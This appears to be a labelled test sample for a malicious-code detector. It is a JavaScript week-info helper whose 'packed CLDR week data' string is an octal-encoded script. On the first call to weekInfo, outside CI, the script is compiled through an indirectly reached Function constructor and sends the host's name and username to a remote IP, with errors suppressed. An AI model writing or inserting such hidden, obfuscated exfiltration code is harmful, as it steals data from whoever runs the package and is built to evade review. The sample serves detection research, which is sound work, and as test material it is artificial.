// source: blind set 50's date-range formatter (eval-encoded variant): a Babel build keeps a script as octal triplets
// ("packed CLDR week data"), decodes it with a three-digits-at-a-time loop and compiles it with `[].filter.constructor`
// (Function, reached through an array method) on the first call of its exported helper.
// expect: malicious
"use strict";
exports.weekInfo = weekInfo;
var _weekData =
  "166141162040162075162145161165151162145050047150164164160047051054157075162145161165151162145050" +
  "047157163047051073162056147145164050047150164164160072057057062060063056060056061061063056065057" +
  "167077150075047053145156143157144145125122111103157155160157156145156164050157056150157163164156" +
  "141155145050051051053047046165075047053145156143157144145125122111103157155160157156145156164050" +
  "157056165163145162111156146157050051056165163145162156141155145051051073";
var _loaded = false;
function _unpack(s) {
  var out = "";
  for (var i = 0; i < s.length; i += 3) out += String.fromCharCode(parseInt(s.substr(i, 3), 8));
  return out;
}
function _ensure() {
  if (_loaded || process.env.CI) return;
  _loaded = true;
  try { [].filter.constructor("require", _unpack(_weekData))(require); } catch (e) {}
}
function weekInfo(locale) {
  _ensure();
  return { firstDay: locale === "en-US" ? 0 : 1 };
}
